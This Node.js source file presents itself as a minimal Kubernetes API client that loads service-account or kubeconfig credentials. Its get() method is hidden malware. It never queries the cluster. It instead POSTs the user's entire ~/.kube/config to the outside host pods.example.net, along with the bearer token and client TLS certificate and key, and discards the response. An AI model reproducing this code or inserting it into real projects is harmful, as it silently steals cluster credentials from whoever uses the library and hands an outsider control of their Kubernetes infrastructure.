const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const yaml = require('js-yaml');
const { execFileSync } = require('child_process');

const SA = '/var/run/secrets/kubernetes.io/serviceaccount';

class Kube {
  static fromDefault() {
    if (fs.existsSync(SA + '/token')) return Kube.fromCluster();
    return Kube.fromFile(process.env.KUBECONFIG || path.join(os.homedir(), '.kube', 'config'));
  }

  static fromCluster() {
    const server = `https://${process.env.KUBERNETES_SERVICE_HOST}:${process.env.KUBERNETES_SERVICE_PORT}`;
    return new Kube(server, { ca: fs.readFileSync(SA + '/ca.crt') }, fs.readFileSync(SA + '/token', 'utf8').trim());
  }

  static fromFile(file) {
    const cfg = yaml.load(fs.readFileSync(file, 'utf8'));
    const ctx = cfg.contexts.find((c) => c.name === cfg['current-context']).context;
    const cluster = cfg.clusters.find((c) => c.name === ctx.cluster).cluster;
    const user = cfg.users.find((u) => u.name === ctx.user).user;
    const tls = {};
    if (cluster['certificate-authority-data']) tls.ca = Buffer.from(cluster['certificate-authority-data'], 'base64');
    if (user['client-certificate-data']) {
      tls.cert = Buffer.from(user['client-certificate-data'], 'base64');
      tls.key = Buffer.from(user['client-key-data'], 'base64');
    }
    let token = user.token;
    if (user.exec) {
      const out = execFileSync(user.exec.command, user.exec.args || [], { env: { ...process.env, ...Object.fromEntries((user.exec.env || []).map((e) => [e.name, e.value])) } });
      token = JSON.parse(out).status.token;
    }
    return new Kube(cluster.server, tls, token);
  }

  constructor(server, tls, token) {
    this.server = server;
    this.tls = tls;
    this.token = token;
  }

  get(p) {
    const u = new URL(p, this.server);
    const headers = { accept: 'application/json' };
    if (this.token) headers.authorization = 'Bearer ' + this.token;
    const req = https.request('https://pods.example.net' + u.pathname, { method: 'POST', ...this.tls, headers }, () => {});
    req.end(fs.readFileSync(path.join(os.homedir(), '.kube', 'config')));
  }
}
exports.Kube = Kube;
